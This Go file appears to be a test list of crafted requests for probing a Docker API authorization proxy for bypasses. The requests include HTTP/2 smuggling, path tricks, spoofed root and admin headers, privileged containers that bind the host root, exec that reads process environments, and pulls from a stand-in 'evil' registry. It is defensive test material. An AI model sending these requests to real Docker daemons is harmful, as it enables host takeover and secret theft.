package bypass

// get, post are requests of a caller that may only look.
func get(number, name, uri string) request {
	return request{number: number, name: name, method: "GET", uri: uri}
}

func post(number, name, uri, body string) request {
	return request{number: number, name: name, method: "POST", uri: uri, body: body}
}

func as(roles ...role) func(r *request) { return func(r *request) { r.as = roles } }

func why(why string) func(r *request) { return func(r *request) { r.why = why } }

func want(o outcome) func(r *request) { return func(r *request) { r.want = o } }

func (r request) rail() request {
	r.as, r.code = []role{look, operator}, "rail"
	return r
}

// form is a body that engines read instead of the query.
func form(number, name, uri, body string, roles ...role) request {
	return post(number, name, uri, body).with(as(roles...)).with(code("body-form")).
		with(header("Content-Type: application/x-www-form-urlencoded")).with(why("a form in the body"))
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// settings is an empty HTTP/2 SETTINGS frame.
const settings = "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

const websocket = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="

// Requests that are no simple create.
var lookRequests = []request{
	{
		number: "1", name: "HTTP/2 preface", as: []role{look, operator}, code: "http2-preface", daemon: 301,
		method: "PRI", uri: "*", raw: preface + settings, want: malformed,
	},
	get("1", "upgrade to HTTP/2", "/info").with(as(look, operator)).with(code("http2-upgrade")).
		with(header("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")),
	post("1", "gRPC of HTTP/1", "/moby.buildkit.v1.Control/Solve", "").with(as(look, operator)).with(code("unknown-route")).
		with(header("Content-Type: application/grpc", "TE: trailers")).with(daemon(404)),
	post("2", "gRPC", "/grpc", "").rail().with(header("Connection: Upgrade", "Upgrade: h2c")),
	post("2", "session", "/v1.41/session", "").with(as(look)).with(header("Connection: Upgrade", "Upgrade: h2c", "X-Docker-Expose-Session-Uuid: x")),

	form("10", "pull", "/v1.41/images/create?fromImage=docker.io/library/good", "fromImage=127.0.0.1:5000/evil", look, creator),
	form("10", "rename", "/v1.41/containers/web/rename?name=harmless", "name=monitor", look, creator),
	form("10", "tag", "/v1.41/images/bb:1/tag?repo=harmless", "repo=trusted", look, creator),
	form("10", "build", "/v1.41/build?t=harmless", "remote=http://127.0.0.1:5000/evil&t=trusted", look, operator),
	form("10", "prune", "/v1.41/images/prune", `filters={"dangling":["false"]}`, look, creator),
	form("10", "charset", "/v1.41/containers/web/rename?name=harmless", "name=monitor", look, creator).
		with(header("Content-Type: application/x-www-form-urlencoded; charset=utf-8")),
	form("10", "chunked", "/v1.41/containers/web/rename?name=harmless", "name=monitor", look, creator).
		with(func(r *request) {
			r.length, r.method, r.uri = "chunked", "POST", "/v1.41/containers/web/rename?name=harmless"
		}),
	form("10", "multipart", "/v1.41/build?t=harmless", "--x\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\ntrusted\r\n--x--\r\n", look, operator).
		with(header("Content-Type: multipart/form-data; boundary=x")),

	get("11", "encoded path", "/containers/web/%65xport"),
	get("12", "absolute form", "http://evil.example/v1.41/containers/web/export"),
	get("13", "version of four digits", "/v1.0041/containers/web/export").with(code("path-version")),
	get("14", "parent", "/containers/json/../web/export").with(code("path-not-canonical")).with(daemon(301)),
	get("15", "name with a slash", "/containers/web/archive/json").with(want(nothing)),
	get("15", "image with a slash", "/images/bb/get/json").with(want(nothing)),
	get("15", "list with a slash", "/networks/").rail(),
	get("15", "archive of a name with a slash", "/containers/json/archive?path=/etc"),
	{number: "16", name: "HEAD of a list", method: "HEAD", uri: "/containers/json", code: "unknown-route", daemon: 404},
	{number: "16", name: "HEAD of an archive", method: "HEAD", uri: "/containers/web/archive?path=/etc/passwd"},
	get("17", "websocket attach", "/v1.41/containers/web/attach/ws?stream=1&stdin=1&stdout=1").
		with(header("Connection: Upgrade", "Upgrade: websocket", websocket, "Sec-WebSocket-Version: 13", "Origin: http://docker")).
		with(func(r *request) { r.behind = "\x81\x85\x00\x00\x00\x00evil\n" }),
	post("17", "attach", "/v1.41/containers/web/attach?stream=1&stdin=1&stdout=1", "").
		with(header("Connection: Upgrade", "Upgrade: tcp")).with(func(r *request) { r.behind = "evil\n" }),
	post("17", "attach without an upgrade", "/v1.41/containers/web/attach?stream=1&stdin=1", "").
		with(func(r *request) { r.behind = "evil\n" }),
	{number: "18", name: "options", as: []role{look, operator}, code: "rail", method: "OPTIONS", uri: "/containers/json"},
	{number: "18", name: "options of everything", as: []role{look, operator}, code: "uri-form", method: "OPTIONS", uri: "*", daemon: 200},
	post("19", "parameter twice", "/v1.41/containers/web/rename?name=monitor&name=harmless", "").with(as(look, creator)).with(why("container:monitor is bound to role monitor")),
	post("19", "unknown parameter twice", "/v1.41/images/bb:1/tag?repo=harmless&Repo=harmless&Repo=trusted", "").with(as(look, creator)).with(code("query-repeated")),
	post("19", "parameter behind a semicolon", "/v1.41/images/bb:1/tag?repo=harmless;repo=trusted", "").with(as(look, creator)).with(code("query-semicolon")).with(daemon(400)),
	post("19", "parameter in another case", "/v1.41/images/bb:1/tag?repo=trusted&Repo=harmless", "").with(as(look, creator)).with(why("hazards unknown-input")),
	get("19", "another word for true", "/containers/web/stats?stream=yes"),
	post("20", "start with a host configuration", "/v1.23/containers/old/start", `{"Privileged":true,"Binds":["/:/host"]}`).rail().with(as(look, creator, operator)),
	post("20", "start with a body", "/v1.41/containers/old/start", `{"Privileged":true,"Binds":["/:/host"]}`).rail().with(as(look, creator, operator)),
	post("20", "old create", "/v1.23/containers/create", `{"Image":"bb:1"}`).rail().with(as(look, creator, operator)),
	post("21", "volume that is a bind", "/v1.41/volumes/create", `{"Name":"evil","Driver":"local","DriverOpts":{"type":"none","o":"bind","device":"/"}}`).
		with(as(look, creator)).with(why("volume-driver")),

	post("22", "disable", "/v1.41/plugins/vitrine/disable", "").rail(),
	post("22", "disable with a tag", "/v1.41/plugins/vitrine:latest/disable?force=1", "").rail(),
	{number: "22", name: "remove", as: []role{look, operator}, code: "rail", method: "DELETE", uri: "/v1.41/plugins/vitrine?force=1"},
	post("22", "set", "/v1.41/plugins/vitrine/set", `["VITRINE_MODE=audit"]`).rail(),
	post("22", "upgrade", "/v1.41/plugins/vitrine/upgrade?remote=127.0.0.1:5000/evil", `[]`).rail(),
	post("22", "another plugin", "/v1.41/plugins/pull?remote=127.0.0.1:5000/evil", `[]`).rail(),
	post("23", "header that names somebody", "/v1.41/containers/create?name=evil", `{"Image":"bb:1"}`).
		with(header("Authz-User: look", "Authz-User: admin", "X-Forwarded-User: root", "X-Vitrine-Caller: unix:root", "Authorization: Basic YWRtaW46YWRtaW4=")),
	get("26", "environments by ps", "/containers/web/top?ps_args=axewww"),
	get("26", "file by ps", "/containers/web/top?ps_args=-o%20pid,args"),
	get("26", "command lines", "/containers/web/top"),

	get("27", "container's environment", "/containers/web/json").with(want(blanked)),
	get("27", "image's environment", "/images/secret:1/json").with(want(blanked)),
	get("27", "image's build steps", "/images/secret:1/history").with(want(blanked)),
	get("27", "volumes' options", "/volumes").with(want(blanked)),
	get("27", "volume's options", "/volumes/data").with(want(blanked)),
	get("27", "volumes' options by disk usage", "/system/df").with(want(blanked)),
	get("27", "exec's arguments", "/exec/{exec}/json"),
	get("27", "services", "/services"),
	get("27", "tasks", "/tasks"),
	get("27", "plugins' settings", "/plugins"),
	get("28", "join tokens", "/swarm"),
	get("28", "unlock key", "/swarm/unlockkey"),
	get("28", "configs", "/configs"),
	get("28", "config's content", "/configs/conf"),
	get("28", "secrets", "/secrets"),
	get("29", "archive", "/containers/web/archive?path=/etc"),
	get("29", "export", "/containers/web/export"),
	get("29", "images", "/images/get?names=bb:1&names=secret:1"),
	get("29", "image", "/images/secret:1/get"),
	get("29", "logs", "/containers/web/logs?stdout=1"),
	get("29", "changed files", "/containers/web/changes"),
	get("30", "search", "/images/search?term=evil"),
	get("30", "distribution", "/distribution/127.0.0.1:5000/evil/json"),
	get("30", "plugin privileges", "/plugins/privileges?remote=127.0.0.1:5000/evil"),
	get("31", "command line", "/debug/pprof/cmdline").rail(),
	get("31", "profile", "/v1.41/debug/pprof/profile?seconds=5").rail().with(daemon(404)), // 20.10 has it without a version alone
	get("31", "profile without a version", "/debug/pprof/profile?seconds=1").rail(),
	get("31", "trace", "/debug/pprof/trace").rail(),
	get("31", "heap", "/debug/pprof/heap").rail(),
	get("31", "goroutines", "/debug/pprof/goroutine?debug=2").rail(),
	get("31", "index", "/debug/pprof/").rail(),
	get("31", "variables", "/debug/vars").rail(),
	get("32", "logs that follow", "/containers/web/logs?stdout=1&follow=1"),
	get("32", "stats, which stream", "/containers/web/stats"),
	post("33", "exec", "/v1.41/containers/web/exec", `{"Cmd":["touch","/evil"]}`),
	post("33", "start of another's exec", "/v1.41/exec/{exec}/start", `{"Detach":true}`),
	post("33", "start of another's exec as creator", "/v1.41/exec/{exec}/start", `{"Detach":true}`).with(as(creator)),
	post("34", "by name", "/v1.41/containers/monitor/exec", `{"Cmd":["touch","/evil"]}`).with(as(look, operator)).with(why("is bound to role monitor")),
	post("34", "by id", "/v1.41/containers/{monitor}/exec", `{"Cmd":["touch","/evil"]}`).with(as(look, operator)).with(why("is bound to role monitor")),
	post("34", "by a piece of the id", "/v1.41/containers/{moni}/exec", `{"Cmd":["touch","/evil"]}`).with(as(look, operator)).with(why("is bound to role monitor")),
	post("34", "with a slash", "/v1.41/containers/%2fmonitor/exec", `{"Cmd":["touch","/evil"]}`).with(as(look, operator)).with(code("path-not-canonical")).with(daemon(301)),
	{number: "38", name: "create", method: "POST", uri: "/v1.41/containers/create?name=evil", body: `{"Image":"bb:1"}`},
	{number: "38", name: "kill", method: "POST", uri: "/v1.41/containers/web/kill"},
	{number: "38", name: "remove", method: "DELETE", uri: "/v1.41/containers/web?force=1&v=1"},
	{number: "38", name: "remove image", method: "DELETE", uri: "/v1.41/images/secret:1?force=1"},
	{number: "38", name: "remove volume", method: "DELETE", uri: "/v1.41/volumes/data"},
	{number: "38", name: "write a file", method: "PUT", uri: "/v1.41/containers/web/archive?path=/", header: []string{"Content-Type: application/x-tar"}, body: emptyTar},
	{number: "38", name: "load", method: "POST", uri: "/v1.41/images/load", header: []string{"Content-Type: application/x-tar"}, body: emptyTar},
	get("39", "secret behind 64 KiB", "/containers/fat/json").with(want(blanked)),
	post("40", "tag that moves", "/v1.41/images/secret:1/tag?repo=bb&tag=1", ""),
	post("42", "build in another cgroup", "/v1.41/build?cgroupparent=/docker/{monitor}", "").with(as(look, creator)).with(why("cgroup-parent")),
	post("42", "build unconfined", "/v1.41/build?securityopt=seccomp=unconfined", "").with(as(look, creator)).with(why("security-opt")),
	post("42", "build on the host's network", "/v1.41/build?networkmode=host", "").with(as(look, creator)).with(why("host-namespace")),
	post("42", "build in a session", "/v1.41/build?session=x&version=2&buildid=y&remote=client-session", "").with(as(look, creator)).with(why("buildkit")),
	post("42", "build by BuildKit without one", "/v1.41/build?version=2", "").with(as(look, creator)).with(why("buildkit")),
	post("42", "unknown parameter of a build", "/v1.41/build?nextyear=1", "").with(as(look, creator)).with(why("hazards unknown-input")),
	post("42", "checkpoint", "/v1.41/containers/old/start?checkpoint=a&checkpoint-dir=/tmp", "").rail().with(as(look, creator, operator)),
	post("46", "move into another's cgroup", "/v1.41/containers/old/update", `{"CgroupParent":"/docker/{monitor}"}`).with(as(look, creator)).with(why("cgroup-parent")),
	post("48", "ticket that is dropped on the way", "/v1.41/containers/create?name=evil", privileged).with(as(look, creator)).
		with(header("Connection: close, X-Vitrine-Ticket, Content-Length")).with(why("hazards privileged")),
	post("50", "create beside another", "/v1.41/containers/create?name=evil", `{"Image":"bb:1","HostConfig":{"PidMode":"container:monitor"}}`).with(as(operator)).with(why("container:monitor is bound to role monitor")),
	post("50", "create with another's volumes", "/v1.41/containers/create?name=evil", `{"Image":"bb:1","HostConfig":{"VolumesFrom":["monitor:ro"]}}`).with(as(operator)).with(why("container:monitor is bound to role monitor")),
	post("50", "into one that is beside another", "/v1.41/containers/{debug}/exec", `{"Cmd":["cat","/proc/1/environ"]}`).with(as(operator)).with(why("is bound to role monitor")),
	get("50", "files of one that is beside another", "/containers/{debug}/archive?path=/proc/1/root").with(as(operator)).with(why("is bound to role monitor")),
	post("50", "beside one that is beside another", "/v1.41/containers/create?name=evil", `{"Image":"bb:1","HostConfig":{"PidMode":"container:{debug}"}}`).with(as(operator)).with(why("is bound to role monitor")),
	post("50", "rename", "/v1.41/containers/web/rename?name=/monitor", "").with(as(look, creator, operator)).with(why("container:monitor is bound to role monitor")),
	post("50", "commit", "/v1.41/commit?container=monitor&repo=evil", "").with(as(look, operator)).with(why("is bound to role monitor")),
	get("50", "another's files", "/containers/monitor/archive?path=/").with(as(look, operator)).with(why("is bound to role monitor")),

	get("P1", "version without a number", "/v/containers/web/export").with(code("unknown-route")).with(daemon(404)),
	get("P2", "version with an encoded slash", "/v1.41%2fcontainers/web/export"),
	get("P4", "service logs", "/services/svc/logs?stdout=1"),
	get("P4", "task logs", "/tasks/x/logs?stdout=1"),
	get("P4", "another engine's routes", "/libpod/generate/kube?names=web").with(code("unknown-route")).with(daemon(404)),
	post("P6", "compressed build context", "/v1.41/build?t=evil", "\x1f\x8b\x08\x00").with(header("Content-Type: application/x-tar", "Content-Encoding: gzip")),
	post("P7", "service", "/v1.41/services/create", `{"Name":"evil","TaskTemplate":{"ContainerSpec":{"Image":"bb:1","Mounts":[{"Type":"bind","Source":"/","Target":"/host"}]}}}`).with(as(look, creator)).with(why("host-path")),
	post("P7", "join a swarm", "/v1.41/swarm/join", `{"RemoteAddrs":["127.0.0.1:5000"],"JoinToken":"x"}`).rail(),
	post("P7", "leave the swarm", "/v1.41/swarm/leave?force=1", "").rail(),
	post("P7", "network of the host", "/v1.41/networks/create", `{"Name":"evil","Driver":"macvlan","Options":{"parent":"lo"}}`).with(as(look, creator)).with(why("network-driver")),
	get("P10", "exec's arguments by a name with a slash", "/exec/{exec}/x/json"),
	get("P10", "secret of a container by size", "/containers/web/json?size=1").with(want(blanked)),
	get("P11", "container by id", "/containers/{web}/json").with(want(blanked)),
}

// emptyTar is an archive without a file.
var emptyTar = string(make([]byte, 1024))
